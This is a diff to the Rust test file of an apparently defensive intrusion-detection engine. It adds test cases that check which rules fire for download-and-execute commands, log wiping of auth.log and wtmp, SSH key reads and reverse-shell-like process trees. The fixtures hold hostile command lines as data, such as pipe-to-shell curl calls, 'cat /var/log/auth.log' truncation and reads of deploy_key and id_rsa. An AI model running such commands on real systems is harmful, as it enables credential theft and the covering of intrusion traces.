@@ -1,3 +1,7 @@
+use std::io::Read as _;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
 use vigie_kernel_events::{Account, File};
 
 use super::*;
@@ -120,7 +124,12 @@ $D/e -c "import subprocess,socket;subprocess.run(['rm','$D/e']);s=socket.socket(
     ("download-pipe-shell", "noop wget; $D/wget | cat | cat | python3 -"),
     ("download-pipe-shell-text", "bash -c 'source <(curl http://127.0.0.1:9/x)'"),
     ("download-pipe-shell-text", "noop curl; x=$($D/curl); bash -c '#!/bin/sh\ntrue'"),
-    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl; $D/got"),
+    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl -o $D/got http://127.0.0.1/x; $D/got"),
+    (
+        "download-execute-tmp",
+        "noop curl; cp /bin/true $D/got; timeout 9 $D/curl -fsSLO http://127.0.0.1/got; $D/got",
+    ),
+    ("download-execute-tmp", "noop curl; cp /bin/true $D/got; $D/curl http://127.0.0.1/x > $D/x; $D/got"),
     ("download-execute-tmp", "noop wget; echo true > $D/y; $D/wget; cd $D; sh y"),
     (
         "exec-shared-memory",
@@ -167,7 +176,27 @@ $P -c "import os,shutil,socket;shutil.copy('$P','$P.new');os.rename('$P.new','$P
         daemon.display()
     );
     crate::tests::trigger(&mut engine, dir.path(), &script);
+    // One that has a mount namespace of its own: while it lives its files can be seen.
+    let path = opt.path().join("sandboxed");
+    crate::tests::copy(Path::new("/usr/bin/python3"), &path);
+    let code = format!(
+        "import os,shutil,socket,sys;shutil.copy('{0}','{0}.new');os.rename('{0}.new','{0}');\
+         s=socket.socket();s.bind(('127.0.0.1',0));s.listen();print(1,flush=True);sys.stdin.read()",
+        path.display()
+    );
+    let mut sandboxed = Command::new("unshare")
+        .arg("-m")
+        .arg(&path)
+        .args(["-c", &code])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("unshare");
+    let mut byte = [0];
+    sandboxed.stdout.as_mut().expect("it is piped").read_exact(&mut byte).expect("it listens");
     crate::tests::all_is_read(&mut engine, &told, dir.path());
+    sandboxed.kill().unwrap();
+    sandboxed.wait().unwrap();
 
     let alerts = told.alerts();
     let wrong = alerts.iter().filter(|alert| crate::tests::is_from(alert, opt.path()));
@@ -257,6 +286,9 @@ const OTHER_WAYS: &[(&str, &[&str], &str)] = &[
     ("/bin/sed", &["-i", "/192.0.2.1/d", "/var/log/auth.log"], "log-wipe"),
     ("/bin/mv", &["/var/log/wtmp", "/tmp/x"], "log-wipe"),
     ("/bin/sh", &["-c", ": > /var/log/auth.log"], "log-wipe"),
+    ("/bin/sh", &["-c", "cd /; cat /dev/null > /var/log/auth.log"], "log-wipe"),
+    ("/bin/sh", &["-c", "cp /dev/null /var/log/wtmp"], "log-wipe"),
+    ("/usr/bin/cat", &["/var/www/.ssh/deploy_key"], "credentials-read"),
     ("/usr/bin/dmesg", &["-C"], "log-wipe"),
     ("/usr/bin/utmpdump", &["-r", "x"], "log-wipe"),
     ("/bin/mv", &["/root/.bash_history", "/tmp/x"], "history-off"),
@@ -333,6 +365,7 @@ const HARMLESS_TEXTS: &[(&str, &[&str])] = &[
     ("/bin/sh", &["-c", "export P=$(kubectl get secret x | base64 -d)"]),
     ("/bin/sh", &["-c", "echo done >> /var/log/app.log"]),
     ("/bin/sh", &["-c", "backup > /var/log/backup.log 2>&1"]),
+    ("/bin/sh", &["-c", "backup 2>/dev/null >/var/log/backup.log"]),
     ("/usr/bin/python3.11", &["-c", "import json,sys; print(json.load(sys.stdin))"]),
     ("/usr/bin/awk", &["{ system(\"\") }"]),
 ];
@@ -342,7 +375,8 @@ fn all_that_fire(path: &str, command: &str, change: impl FnOnce(&mut Run)) -> Ve
     below(&[("/usr/lib/systemd/systemd", 0), ("/usr/sbin/sshd", 0), ("/bin/bash", 0)], path, &all, change)
 }
 
-/// What fires on an exec below these programs, of which the files belong to these users.
+/// What fires on an exec below these programs, which belong to these users and are run by them. Behind a blank is what one
+/// is called, with its arguments.
 fn below(
     ancestors: &[(&str, u32)],
     path: &str,
@@ -352,9 +386,12 @@ fn below(
     let mut rules = Rules::new(parse(BUILTIN).unwrap(), &[]);
     let mut table = Table::default();
     let mut maker = Key::default();
-    for ((path, owner), pid) in ancestors.iter().zip(1..) {
-        let What::Exec(mut run) = exec(path, &[path]).what else { panic!("it is one") };
+    for ((called, owner), pid) in ancestors.iter().zip(1..) {
+        let (path, called) = called.split_once(' ').unwrap_or((called, called));
+        let arguments: Vec<&str> = called.split(' ').collect();
+        let What::Exec(mut run) = exec(path, &arguments).what else { panic!("it is one") };
         run.program.file.owner = *owner;
+        run.rights.uid = *owner;
         run.maker = maker;
         maker = Key { pid, start: 1 };
         table.exec(maker, ANN, 0, &run);
@@ -392,6 +429,58 @@ fn other_ways_to_do_the_same_fire_and_what_looks_like_them_does_not() {
     assert!(wrong.is_empty(), "wrong: {wrong:#?}");
 }
 
+#[test]
+fn a_person_may_look_after_his_own_keys() {
+    let fired = |path: &str, command: &str| {
+        all_that_fire(path, command, |run| run.rights.login_uid = Some(1000))
+            .contains(&"credentials-read".to_owned())
+    };
+
+    assert!(!fired("/bin/mv", "mv /home/a/.ssh/new.pem /home/a/.ssh/aws.pem"));
+    assert!(!fired("/usr/bin/less", "less /home/a/.ssh/deploy_key"));
+    assert!(fired("/usr/bin/cat", "cat /home/a/.ssh/id_rsa"));
+}
+
+/// What inetd and systemd (Accept=yes) start for a connection has it as its output.
+#[test]
+fn a_script_that_serves_a_connection_is_no_reverse_shell_and_a_shell_of_a_service_is_one() {
+    const INTERNET: (u32, u32) = (0o140_000, 2);
+    let fired = |ancestors: &[&str], path: &str, input: (u32, u32)| {
+        let ancestors: Vec<(&str, u32)> = ancestors.iter().map(|path| (*path, 0)).collect();
+        let all = below(&ancestors, path, &["x"], |run| run.standard = [input, INTERNET, INTERNET]);
+        all.iter().any(|it| it == "reverse-shell-socket")
+    };
+    let null = (0o020_000, 1);
+
+    for above in ["/usr/sbin/xinetd", "/usr/lib/systemd/systemd"] {
+        assert!(!fired(&[above, "/bin/bash"], "/usr/bin/id", null), "{above}");
+    }
+    assert!(!fired(&["/usr/sbin/xinetd", "/bin/bash", "/bin/sh"], "/usr/bin/id", null));
+    assert!(fired(&["/usr/lib/systemd/systemd", "/usr/bin/java", "/bin/bash"], "/usr/bin/id", null));
+    assert!(fired(&["/usr/lib/systemd/systemd", "/usr/bin/java"], "/bin/sh", INTERNET));
+}
+
+#[test]
+fn tools_that_download_write_a_file_or_not() {
+    let does = |command: &str| {
+        let all: Vec<&str> = command.split(' ').collect();
+        let What::Exec(run) = exec(&format!("/usr/bin/{}", all[0]), &all).what else { panic!("it is one") };
+        download(&run)
+    };
+    let files =
+        ["curl -o x h", "curl -fsSLO h", "curl --output=x h", "curl -sox h", "wget h", "wget -qO x h"];
+    let outputs =
+        ["curl h", "curl -so /dev/null h", "curl -o - h", "wget -qO- h", "wget -O - h", "wget --spider h"];
+
+    for command in files {
+        assert_eq!(does(command), Some(Download::File), "{command}");
+    }
+    for command in outputs {
+        assert_eq!(does(command), Some(Download::Output), "{command}");
+    }
+    assert_eq!(does("git -o x"), None);
+}
+
 /// A user can call his shell as he likes.
 #[test]
 fn nobody_is_excused_by_a_name_that_anybody_can_give() {
@@ -404,7 +493,14 @@ fn nobody_is_excused_by_a_name_that_anybody_can_give() {
     for path in ["/tmp/apt", "/dev/shm/x/apt", "memfd:apt"] {
         assert!(fired(path, 0, 0), "{path}");
     }
-    assert!(fired("/var/www/x/apt", 33, 33));
+    assert!(!fired("/home/a/apt", 1000, 0));
+    for (path, owner) in [("/var/www/x/apt", 33), ("/srv/x/apt", 65_534), ("/var/lib/private/x/apt", 61_500)]
+    {
+        assert!(fired(path, owner, owner), "{path}");
+    }
+    assert!(!fired("/bin/busybox apt", 0, 0));
+    assert!(fired("/tmp/busybox apt", 0, 0));
+    assert!(fired("/usr/lib64/ld-linux-x86-64.so.2 ld-linux-x86-64.so.2 /tmp/apt", 0, 0));
     // systemd is an ancestor of everything: no rule may excuse for it.
     for rule in parse(BUILTIN).unwrap() {
         for (field, patterns) in rule.unless.iter().flatten() {
